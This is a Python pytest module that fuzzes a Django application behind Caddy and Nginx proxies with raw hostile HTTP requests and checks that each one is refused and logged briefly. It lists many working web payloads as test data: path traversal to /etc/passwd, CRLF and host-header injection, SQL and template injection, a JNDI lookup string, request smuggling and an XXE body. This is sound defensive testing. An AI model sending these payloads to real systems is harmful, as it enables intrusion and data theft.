"""Hosts: hostile Host, X-Forwarded-*, path, cookie and body inputs, behind both proxies.

Each is refused with 4xx or closed, sent on to the address over HTTPS, or means nothing any more because the proxy has
said better. It leaves at most two lines in the application's log, below 1,000 characters and without a traceback. They
are sent byte for byte: no client library would. Each comes from an address of its own.
"""

import json
import re
from collections import Counter
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import Any
from urllib.parse import urljoin

import pytest

from tests.drill import both_interfaces, only_asgi, only_wsgi
from tests.services import Caddy, Nginx, Proxy

SHORT = 1000  # characters of a line
MOST = 2  # lines of a request: why it was refused, and the access line
ME = "/api/v1/users/me/"
SITE = "https://shop.test/"
CLOSED = 0  # without an answer
REFUSED = (CLOSED, *range(400, 500))
SENT_ON = (301, 308)
ISSUE_TOKEN = """
from apps.api.models import AccessToken
from apps.users.models import User
token = AccessToken(user=User.objects.get(username="root"), name="hostile")
print(token.renew())
token.save()
"""


@dataclass
class Hostile:
    """Bytes, and the statuses that are right for them."""

    name: str
    raw: bytes
    statuses: tuple[int, ...] = REFUSED
    plain: bool = False  # not over TLS


@dataclass
class Answer:
    status: int
    headers: dict[str, str]
    body: str


@both_interfaces
def test_hostile_inputs_are_refused(project, env, start, report, tmp_path):
    token = project.manage(
        "shell", "--no-imports", "-c", ISSUE_TOKEN, env=env
    ).stdout.strip()
    instance = start(project, env)
    with (
        Caddy(tmp_path / "caddy", project.path, instance.port) as caddy,
        Nginx(tmp_path / "nginx", project.path, instance.port) as nginx,
    ):
        report(drill(instance, [caddy, nginx], [*hostile_inputs(token)]))


@only_wsgi
def test_any_host_is_noticed(project, env, start, break_promise, tmp_path):
    broken = break_promise(
        "config/settings/production.py",
        'ALLOWED_HOSTS = env.list("DJANGO_ALLOWED_HOSTS")',
        'ALLOWED_HOSTS = ["shop.test", "evil.test"]',
    )
    instance = start(broken, env)
    with (
        Nginx(tmp_path / "nginx", project.path, instance.port) as nginx,
        pytest.raises(
            AssertionError, match=r"host evil\.test through Nginx: status 200"
        ),
    ):
        drill(instance, [nginx], [*hosts()])


@only_wsgi
def test_addresses_that_clients_make_up_are_noticed(
    project, env, start, break_promise, tmp_path
):
    broken = break_promise(
        "deploy/nginx/default.conf",
        "X-Forwarded-For $remote_addr",
        "X-Forwarded-For $proxy_add_x_forwarded_for",
    )
    instance = start(project, env)
    with (
        Nginx(tmp_path / "nginx", broken.path, instance.port) as nginx,
        pytest.raises(AssertionError, match=r"Nginx hands on .*6\.6\.6\.6"),
    ):
        drill(instance, [nginx], [*forwarded()])


@only_wsgi
def test_types_that_nobody_can_read_are_noticed(
    project, env, start, break_promise, tmp_path
):
    broken = break_promise("deploy/caddy/Caddyfile", "error @unreadable 415", "")
    instance = start(project, env)
    with (
        Caddy(tmp_path / "caddy", broken.path, instance.port) as caddy,
        pytest.raises(
            AssertionError,
            match="charset in an unknown encoding through Caddy: status 500",
        ),
    ):
        drill(instance, [caddy], [*forms()])


@only_asgi
def test_long_lines_are_noticed(project, env, start, break_promise, tmp_path):
    broken = break_promise("core/logs.py", "LONGEST = 160", "LONGEST = 10_000")
    instance = start(broken, env)
    with (
        Caddy(tmp_path / "caddy", project.path, instance.port) as caddy,
        pytest.raises(AssertionError, match="long path through Caddy: a line of"),
    ):
        drill(instance, [caddy], [*paths()])


def drill(instance, proxies: list[Proxy], inputs: list[Hostile]) -> str:
    seen = len(instance.process.log)
    with ThreadPoolExecutor(len(proxies)) as pool:
        networks = [f"127.{number + 1}" for number in range(len(proxies))]
        problems = [
            problem
            for found in pool.map(send_all, proxies, networks, [inputs] * len(proxies))
            for problem in found
        ]
    log = instance.process.log[seen:]
    lines = [line for line in log.splitlines() if '"core.health"' not in line]
    names = {
        address(network, number): f"{hostile.name} through {proxy.name}"
        for proxy, network in zip(proxies, networks, strict=True)
        for number, hostile in enumerate(inputs)
    }
    problems += look_at(lines, names)
    assert not problems, "\n".join(problems)
    through = " and ".join(proxy.name for proxy in proxies)
    longest = max(map(len, lines))
    return f"{len(inputs)} inputs through {through}: refused or void; {MOST} lines each of {longest} characters at most"


def send_all(proxy: Proxy, network: str, inputs: list[Hostile]) -> list[str]:
    """What is wrong with the answers of a proxy to all inputs."""
    problems = []
    for number, hostile in enumerate(inputs):
        answer = ask(proxy, hostile.raw, address(network, number), plain=hostile.plain)
        location = answer.headers.get("location", "")
        if answer.status not in hostile.statuses or not urljoin(
            SITE, location
        ).startswith(SITE):
            problems.append(
                f"{hostile.name} through {proxy.name}: status {answer.status} {location}".rstrip()
            )
        if answer.status == 200 and "evil" in answer.body:
            problems.append(
                f"{hostile.name} through {proxy.name}: a page that repeats it"
            )
    heard = json.loads(
        ask(proxy, request("POST", "/drill/heard/", b"a=b", **FORGED)).body
    )
    heard = {name.lower(): value for name, value in heard.items()}
    said = {
        name: heard.get(name)
        for name in ("host", "x-forwarded-for", "x-forwarded-host", "x-forwarded-proto")
    }
    if said != dict(
        zip(said, ("shop.test", "127.0.0.1", "shop.test", "https"), strict=True)
    ):
        problems.append(f"{proxy.name} hands on {said}")
    forged = {name.lower() for name in FORGED} & heard.keys()
    problems += [
        f"{proxy.name} hands on {name}" for name in forged if "evil" in heard[name]
    ]
    return problems


def look_at(lines: list[str], names: dict[str, str]) -> Iterator[str]:
    """What is wrong with the lines of the log; ``names`` has an input for each address."""
    entries: list[dict[str, Any]] = []
    for line in lines:
        try:
            entries.append(json.loads(line) | {"length": len(line)})
        except ValueError:
            yield f"a line that is not JSON: {line[:200]}"
    addresses = {
        entry["request_id"]: entry["remote_addr"]
        for entry in entries
        if "remote_addr" in entry
    }
    yield from (
        f"a request comes from {address}"
        for address in {*addresses.values()} - {*names, "127.0.0.1"}
    )
    counted = Counter(entry.get("request_id") for entry in entries)
    for entry in entries:
        request_id = entry.get("request_id")
        name = names.get(addresses.get(request_id, ""), "")
        if entry["length"] >= SHORT:
            yield f"{name}: a line of {entry['length']} characters: {entry['message'][:200]}"
        if (
            "exc_info" in entry
            or entry["level"] == "CRITICAL"
            or entry.get("status", 0) >= 500
        ):
            yield f"{name}: an alarming line: {entry}"
        if request_id and counted[request_id] > MOST:
            yield f"{name}: {counted[request_id]} lines, such as {entry['message'][:200]}"
        if request_id and not re.fullmatch(r"[0-9a-f-]{32,36}", request_id):
            yield f"{name}: request id {request_id}"
    # The server's own lines on what is no request.
    if counted[None] > len(names):
        yield f"{counted[None]} lines without a request"


def address(network: str, number: int) -> str:
    return f"{network}.{number // 250}.{number % 250 + 1}"


def ask(
    proxy: Proxy, raw: bytes, source: str = "127.0.0.1", *, plain: bool = False
) -> Answer:
    """The answer to bytes, from an address of loopback."""
    answer = b""
    with proxy.connect(plain=plain, source=source, timeout=10) as connection:
        try:
            connection.sendall(raw)
            while piece := connection.recv(65536):
                answer += piece
                if is_whole(answer):
                    break
        except TimeoutError:
            return Answer(-1, {}, "no answer")
        except OSError:
            pass
    head, _, body = answer.partition(b"\r\n\r\n")
    first, *fields = head.decode("latin-1").split("\r\n")
    status = re.match(r"HTTP/1\.[01] (\d{3})", first)
    headers = {
        name.lower(): value.strip()
        for name, _, value in (field.partition(":") for field in fields)
    }
    return Answer(int(status[1]) if status else CLOSED, headers, body.decode("latin-1"))


def is_whole(answer: bytes) -> bool:
    """Tell whether the answer has come with as much of a body as it announces."""
    head, end, body = answer.partition(b"\r\n\r\n")
    length = re.search(rb"(?im)^content-length: (\d+)", head)
    return bool(end) and len(body) >= (int(length[1]) if length else 0)


# What a client says that only a proxy may say, or nobody.
FORGED = {
    "X_Forwarded_For": "6.6.6.6, evil",
    "X_Forwarded_Host": "evil.test",
    "X_Forwarded_Proto": "evil",
    "X_Request_ID": "evil",
    "Sentry_Trace": "evil",
    "Baggage": "evil",
    "Connection": "Upgrade, evil",
    "Upgrade": "evil",
}


def request(
    method: str = "GET",
    target: str | bytes = "/nowhere/",
    body: bytes = b"",
    *,
    host: str | bytes | None = "shop.test",
    **headers: str | bytes,
) -> bytes:
    fields: list[tuple[str, str | bytes | None]] = [
        ("Host", host),
        (
            "Content-Length",
            str(len(body)) if body and "Transfer_Encoding" not in headers else None,
        ),
        *((name.replace("_", "-"), value) for name, value in headers.items()),
    ]
    lines = [to_bytes(method) + b" " + to_bytes(target) + b" HTTP/1.1"]
    lines += [
        to_bytes(name) + b": " + to_bytes(value)
        for name, value in fields
        if value is not None
    ]
    return b"\r\n".join([*lines, b"", body])


def to_bytes(text: str | bytes) -> bytes:
    return text if isinstance(text, bytes) else text.encode()


def hostile_inputs(token: str) -> Iterator[Hostile]:
    yield from hosts()
    yield from forwarded()
    yield from paths()
    yield from cookies()
    yield from headers()
    yield from methods()
    yield from framing()
    yield from forms()
    yield from json_bodies(token)


def hosts() -> Iterator[Hostile]:
    for host in (
        "evil.test",
        "shop.test.evil.test",
        "evil.test/shop.test",
        "evil.test#shop.test",
        "evil.test?shop.test",
        "shop.test@evil.test",
        "shop.test evil.test",
        "shop.test,evil.test",
        "shop.test;evil.test",
        "shop.test\tevil.test",
        ".shop.test",
        "..",
        "*",
        "",
        "localhost",
        "127.0.0.1",
        "[::1]",
        "[::1",
        "[shop.test]",
        "2130706433",
        "0x7f.1",
        "169.254.169.254",
        "xn--shp-sna.test",
        "shöp.test",
        "<script>alert(1)</script>",
        "'; DROP TABLE users_user; --",
        "{{7*7}}",
        "${jndi:ldap://evil.test/a}",
        "a" * 300,
        "a." * 2000,
        b"\xff\xfe",
        b"shop.test\x01",
    ):
        yield Hostile(f"host {host[:40]!s}", request("GET", "/", host=host))
    # nginx hands on the name alone.
    for host in ("shop.test:80@evil.test", "shop.test:port", "shop.test:-1"):
        yield Hostile(f"host {host}", request("GET", "/", host=host), (*REFUSED, 200))
    yield Hostile("no host", request("GET", "/", host=None))
    yield Hostile("two hosts", request("GET", "/", Host="evil.test"))
    yield Hostile(
        "host in the target",
        request("GET", "http://evil.test/nowhere/", host="evil.test"),
    )


def forwarded() -> Iterator[Hostile]:
    for client in (
        "evil",
        "",
        ",",
        ",,,,,",
        "1.2.3.4, evil",
        "evil, 1.2.3.4",
        "999.999.999.999",
        "1.2.3.4:80",
        "[2001:db8::1]",
        "2001:db8::1%eth0",
        "::ffff:1.2.3.4",
        "unknown",
        "_hidden",
        "' OR 1=1 --",
        "<script>",
        b"\xff\xfe",
        "6.6.6.6",
        "1.2.3.4," * 800,
    ):
        yield Hostile(f"client {client[:40]!s}", request(X_Forwarded_For=client))
        form = b"username=root&password=guess"
        types = {"Content_Type": "application/x-www-form-urlencoded"}
        yield Hostile(
            f"log-in by {client[:40]!s}",
            request("POST", "/admin/login/", form, X_Forwarded_For=client, **types),
        )
    for proto in (
        "http",
        "HTTPS",
        "http,https",
        "ftp",
        "javascript:",
        "",
        "a" * 2000,
        b"\xff",
    ):
        yield Hostile(
            f"proto {proto[:40]!s}",
            request("GET", "/", X_Forwarded_Proto=proto),
            (200,),
        )
    yield Hostile(
        "proto without TLS", request(X_Forwarded_Proto="https"), SENT_ON, plain=True
    )
    yield Hostile("forwarded host", request(X_Forwarded_Host="evil.test"))
    yield Hostile(
        "forwarded host, redirect",
        request(X_Forwarded_Host="evil.test"),
        SENT_ON,
        plain=True,
    )
    yield Hostile(
        "forwarded port", request(X_Forwarded_Port="evil"), SENT_ON, plain=True
    )
    yield Hostile(
        "Forwarded",
        request(Forwarded='for="[::1";host=evil.test;proto=https'),
        SENT_ON,
        plain=True,
    )
    yield Hostile(
        "original url", request(X_Original_URL="/admin/", X_Rewrite_URL="/admin/")
    )


def paths() -> Iterator[Hostile]:
    for path in (
        "/%00",
        "/%0a{%22level%22:%22CRITICAL%22}",
        "/%0d%0aSet-Cookie:%20a=b",
        "/%e2%80%a8%c2%85",
        "/%ff%fe",
        "/%c0%ae%c0%ae/",
        "/%zz",
        "/%",
        "/..",
        "/../../etc/passwd",
        "/static/../manage.py",
        "/static/..%2f..%2fmanage.py",
        "/static/%2e%2e/%2e%2e/etc/passwd",
        "/static/%00.css",
        "/static//etc/passwd",
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "//evil.test/",
        "//evil.test",
        "/%2f%2fevil.test/",
        "/\\evil.test",
        "/nowhere/?q=%00",
        "/nowhere/;jsessionid=1",
        "/<script>alert(1)</script>",
        "/{{7*7}}",
        "/'%20OR%201=1--",
        "/" + "%01" * 1000,
        "/" + "%22" * 1000,
        "/" + "%5c" * 1000,
        "/" + "é" * 300,
        "/" + "/" * 3000,
        "nowhere",
        "*",
        "?",
    ):
        yield Hostile(f"path {path[:40]}", request("GET", path))
    yield Hostile("long path", request("GET", "/" + "a" * 3500))
    yield Hostile("longer path", request("GET", "/" + "a" * 30_000))
    yield Hostile("long query", request("GET", "/nowhere/?" + "a=b&" * 900))
    yield Hostile("raw bytes in the path", request("GET", b"/\xff\xfe\xc3\x28"))
    yield Hostile("control characters in the path", request("GET", b"/a\x01b\x7f"))
    yield Hostile("null byte in the path", request("GET", b"/a\x00b"))
    yield Hostile("space in the path", request("GET", "/a b c"))
    yield Hostile("line feed in the path", request("GET", b"/a\nb"))
    for path in (
        "//evil.test/",
        "/%0d%0aLocation:%20https://evil.test/",
        "/%5cevil.test",
        "/@evil.test",
    ):
        yield Hostile(f"redirect of {path}", request("GET", path), SENT_ON, plain=True)
    yield Hostile(
        "slash appended", request("GET", "/api/docs?next=//evil.test"), SENT_ON
    )


def cookies() -> Iterator[Hostile]:
    for cookie in (
        "__Host-sessionid=" + "a" * 32,
        "__Host-sessionid=" + "a" * 3000,
        '__Host-sessionid="\\000\\000\\000\\000\\000\\000\\000\\000"',
        '__Host-sessionid="aaaaaaaa\\012aaaaaaaa"',
        "__Host-sessionid=../../../../etc/passwd",
        "__Host-sessionid='; DROP TABLE django_session; --",
        b"__Host-sessionid=\xff\xfe\xff\xfe\xff\xfe\xff\xfe",
        "__Host-sessionid=" + "é" * 40,
        "__Host-csrftoken=" + "a" * 32,
        "=",
        ";;;;",
        "a" * 4000,
        "a=b; " * 800,
        '__Host-csrftoken="\\000"; __Host-sessionid="\\377\\377\\377\\377\\377\\377\\377\\377"',
        "messages=W1siX19qc29uX21lc3NhZ2UiXV0; __Secure-language=../../../etc",
    ):
        yield Hostile(f"cookie {cookie[:60]!s}", request("GET", ME, Cookie=cookie))
        yield Hostile(
            f"log-in with {cookie[:60]!s}",
            request("POST", "/admin/login/", b"a=b", Cookie=cookie),
        )


def headers() -> Iterator[Hostile]:
    yield Hostile("null byte in a header", request(X_Test=b"a\x00b"))
    yield Hostile("line feed in a header", request(X_Test=b"a\nX-Forwarded-For: evil"))
    yield Hostile("carriage return in a header", request(X_Test=b"a\rb"))
    yield Hostile("folded header", request(X_Test=b"a\r\n b"))
    yield Hostile("header without a colon", request()[:-2] + b"evil\r\n\r\n")
    yield Hostile("header without a name", request()[:-2] + b": evil\r\n\r\n")
    yield Hostile("space before the colon", request()[:-2] + b"X-Test : evil\r\n\r\n")
    yield Hostile("underscores", request()[:-2] + b"X_Forwarded_For: 6.6.6.6\r\n\r\n")
    yield Hostile("request id", request(X_Request_ID=b"a b\x7f\xff"))
    yield Hostile("long request id", request(X_Request_ID="a" * 128))
    yield Hostile("longer request id", request(X_Request_ID="a" * 5000))
    yield Hostile(
        "user agent", request(User_Agent='"}\\n{"level": "CRITICAL"} \\u0000')
    )
    yield Hostile("long user agent", request(User_Agent='"' * 4000))
    yield Hostile("user agent of bytes", request(User_Agent=b"\xff" * 500))
    yield Hostile(
        "referer", request("POST", "/admin/login/", b"a=b", Referer="https://[evil")
    )
    yield Hostile(
        "origin", request("POST", "/admin/login/", b"a=b", Origin="https://[evil")
    )
    yield Hostile(
        "long origin",
        request("POST", "/admin/login/", b"a=b", Origin="https://" + "a" * 4000),
    )
    yield Hostile("API origin", request("GET", ME, Origin="https://[evil"))
    yield Hostile("range", request(Range="bytes=9999999999999999999999-0"))
    yield Hostile(
        "date",
        request(
            If_Modified_Since="Fri, 99 Xxx 99999 99:99:99 GMT", If_None_Match='W/"'
        ),
    )
    yield Hostile("language", request(Accept_Language="a" * 3000))
    yield Hostile("accept", request("GET", ME, Accept="\x0b;q=evil"))
    yield Hostile(
        "authorization", request("GET", ME, Authorization="Bearer " + "a" * 3000)
    )
    yield Hostile(
        "authorization of bytes", request("GET", ME, Authorization=b"Bearer \xff\xfe")
    )
    yield Hostile(
        "authorization without a token", request("GET", ME, Authorization="Bearer")
    )
    yield Hostile("basic authorization", request("GET", ME, Authorization="Basic !!!"))
    yield Hostile(
        "upgrade",
        request(Connection="Upgrade", Upgrade="websocket", Sec_WebSocket_Key="a"),
    )
    yield Hostile(
        "HTTP/2 upgrade",
        request(
            Connection="Upgrade, HTTP2-Settings", Upgrade="h2c", HTTP2_Settings="a"
        ),
    )


def methods() -> Iterator[Hostile]:
    yield Hostile(
        "method get", request("get", "/"), (*REFUSED, 200)
    )  # which h11 takes for GET
    for method in (
        "FOO",
        "PROPFIND",
        "TRACE",
        "CONNECT",
        "A" * 300,
        "G\0ET",
        "GET\t",
        "<script>",
        "É",
    ):
        yield Hostile(f"method {method[:40]}", request(method, "/"))
    yield Hostile(
        "override",
        request("POST", "/", b"_method=DELETE", X_HTTP_Method_Override="DELETE"),
    )
    for version in (
        b"HTTP/9.9",
        b"HTTP/1.1.1",
        b"HTTP/2.0",
        b"HTTPS/1.1",
        b"evil",
        b"",
    ):
        yield Hostile(
            f"version {version.decode()}",
            request().replace(b"HTTP/1.1", version, 1),
            (*REFUSED, 505),
        )
    yield Hostile("nothing but lines", b"\r\n" * 50 + b"evil\r\n\r\n")
    yield Hostile(
        "TLS",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 64 + b"\r\n\r\n",
    )
    yield Hostile("HTTP/2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
    yield Hostile("PROXY protocol", b"PROXY TCP4 6.6.6.6 6.6.6.6 1 1\r\n" + request())


def framing() -> Iterator[Hostile]:
    for length in (
        "evil",
        "-1",
        "+5",
        "5 5",
        "5, 6",
        "0x5",
        "5.0",
        "\N{ARABIC-INDIC DIGIT FIVE}",
        "1" * 40,
        "1e3",
    ):
        yield Hostile(
            f"length {length}", request("POST", "/drill/upload/", Content_Length=length)
        )
    yield Hostile(
        "two lengths", request("POST", "/drill/upload/", b"hello", Content_Length="6")
    )
    for encoding in (
        "evil",
        "chunked, chunked",
        "chunked, evil",
        "xchunked",
        "\x0bchunked",
        "chunked;q=1",
        "identity, chunked, identity",
    ):
        raw = request(
            "POST", "/drill/upload/", b"0\r\n\r\n", Transfer_Encoding=encoding
        )
        # 501 is what RFC 9112 (section 6.1) wants of whoever does not know an encoding.
        yield Hostile(f"encoding {encoding}", raw, (*REFUSED, 501))
    yield Hostile(
        "length and encoding",
        request(
            "POST",
            "/drill/upload/",
            b"0\r\n\r\nGET /evil HTTP/1.1\r\n\r\n",
            Transfer_Encoding="chunked",
            Content_Length="5",
        ),
    )
    for chunk in (
        b"evil\r\n",
        b"-5\r\nhello\r\n",
        b"0x5\r\nhello\r\n",
        b"5\nhello\n0\n\n",
        b"fffffffffffffffff\r\n",
        b"5\r\nhelloevil\r\n",
    ):
        raw = request("POST", "/drill/upload/", chunk, Transfer_Encoding="chunked")
        yield Hostile(f"chunk {chunk!r}", raw)


def forms() -> Iterator[Hostile]:
    def upload(content_type: str | bytes, body: bytes) -> bytes:
        return request("POST", "/drill/upload/", body, Content_Type=content_type)

    part = b'--b\r\nContent-Disposition: form-data; name="image"; filename="%s"\r\nContent-Type: image/png\r\n\r\n%s\r\n--b--\r\n'
    multipart = "multipart/form-data; boundary=b"
    yield Hostile(
        "multipart without a boundary",
        upload("multipart/form-data", part % (b"a.png", b"a")),
    )
    yield Hostile(
        "empty boundary",
        upload("multipart/form-data; boundary=", part % (b"a.png", b"a")),
    )
    yield Hostile(
        "long boundary",
        upload("multipart/form-data; boundary=" + "b" * 1000, part % (b"a.png", b"a")),
    )
    yield Hostile(
        "boundary of bytes",
        upload(b"multipart/form-data; boundary=\xff", part % (b"a.png", b"a")),
    )
    yield Hostile(
        "wrong boundary",
        upload("multipart/form-data; boundary=c", part % (b"a.png", b"a")),
    )
    yield Hostile("end is missing", upload(multipart, (part % (b"a.png", b"a"))[:-10]))
    yield Hostile("nothing but a boundary", upload(multipart, b"--b"))
    yield Hostile("empty multipart", upload(multipart, b"\r\n"))
    yield Hostile("null bytes", upload(multipart, b"\0" * 5000))
    for name in (
        b"../../etc/passwd",
        b"a\0.png",
        b"\xff\xfe.png",
        b"a" * 5000 + b".png",
        b".",
        b"",
        b"a.png\\",
        b"con.png",
    ):
        yield Hostile(
            f"file name {name[:20]!r}",
            upload(multipart, part % (name, b"\x89PNG evil")),
        )
    yield Hostile(
        "file name in an unknown encoding",
        upload(
            multipart,
            part.replace(b'filename="%s"', b"filename*=evil''%%ff%s") % (b"", b"a"),
        ),
    )
    yield Hostile(
        "bad base64",
        upload(
            multipart,
            (part % (b"a.png", b"a*b")).replace(
                b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: base64\r\n\r\n", 1
            ),
        ),
    )
    yield Hostile(
        "unknown charset", upload(multipart + "; charset=evil", part % (b"a.png", b"a"))
    )
    yield Hostile(
        "charset of a part",
        upload(
            multipart,
            (part % (b"a.png", b"a")).replace(b"image/png", b"image/png; charset=evil"),
        ),
    )
    yield Hostile(
        "charset in an unknown encoding", upload("text/plain; charset*=evil''%ff", b"a")
    )
    yield Hostile(
        "boundary in an unknown encoding",
        upload("multipart/form-data; boundary*=evil''%ff", b"a"),
    )
    yield Hostile(
        "multipart in multipart",
        upload(
            multipart,
            (part % (b"a.png", b"a")).replace(
                b"image/png", b"multipart/mixed; boundary=b"
            ),
        ),
    )
    yield Hostile(
        "too many fields", upload("application/x-www-form-urlencoded", b"a=b&" * 1100)
    )
    yield Hostile(
        "too many files",
        upload(
            multipart,
            b"".join((part % (b"a.png", b"a"))[:-7] for _ in range(25)) + b"--b--\r\n",
        ),
    )
    yield Hostile(
        "too large a form",
        upload("application/x-www-form-urlencoded", b"a=" + b"b" * (3 * 1024 * 1024)),
    )
    yield Hostile(
        "form in an unknown charset",
        upload("application/x-www-form-urlencoded; charset=evil", b"a=%ff"),
    )
    yield Hostile(
        "form in UTF-16",
        upload("application/x-www-form-urlencoded; charset=utf-16", b"a=%ff"),
    )
    yield Hostile(
        "form of bytes",
        upload("application/x-www-form-urlencoded", b"\xff\xfe\0=\0&%zz=%"),
    )
    yield Hostile("content type", upload(";;;=;", b"a"))
    yield Hostile(
        "content encoding",
        request("POST", "/drill/upload/", b"a", Content_Encoding="evil"),
    )
    log_in = {"Content_Type": "application/x-www-form-urlencoded"}
    yield Hostile(
        "log-in with null bytes",
        request("POST", "/admin/login/", b"username=%00&password=%00", **log_in),
    )
    yield Hostile(
        "log-in with surrogates",
        request("POST", "/admin/login/", b"username=%ed%a0%80&password=a", **log_in),
    )


def json_bodies(token: str) -> Iterator[Hostile]:
    for body in (
        b"{",
        b"}",
        b"[]",
        b"null",
        b"evil",
        b'"evil"',
        b"NaN",
        b'{"first_name": NaN}',
        b'{"first_name": Infinity}',
        b'{"first_name": null}',
        b'{"first_name": {}}',
        b'{"first_name": []}',
        b'{"first_name": "\\u0000"}',
        b'{"first_name": "\\ud800"}',
        b'{"first_name": "' + b"a" * 5000 + b'"}',
        b'{"first_name": "\xff\xfe"}',
        b"\xff\xfe\x00",
        "{}".encode("utf-16")[:-1],
        b"\xef\xbb\xbf{",
        b"\0",
        b"[" * 100_000,
        b'{"a":' * 100_000,
        b'{"first_name": ' + b"1" * 5000 + b"}",
        b'{"first_name": "a", "first_name": {}}',
        b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    ):
        raw = request(
            "PATCH",
            ME,
            body,
            Content_Type="application/json",
            Authorization=f"Bearer {token}",
        )
        yield Hostile(f"JSON {body[:40]!r}", raw)
    form = request(
        "PATCH",
        ME,
        b"first_name=a",
        Content_Type="application/x-www-form-urlencoded",
        Authorization=f"Bearer {token}",
    )
    yield Hostile("form for the API", form)
    for target in (
        "/api/v1/users/?page=evil",
        "/api/v1/users/?page=-1",
        "/api/v1/users/" + "9" * 400 + "/",
        "/api/%00/",
    ):
        yield Hostile(
            f"API {target[:40]}",
            request("GET", target, Authorization=f"Bearer {token}"),
        )
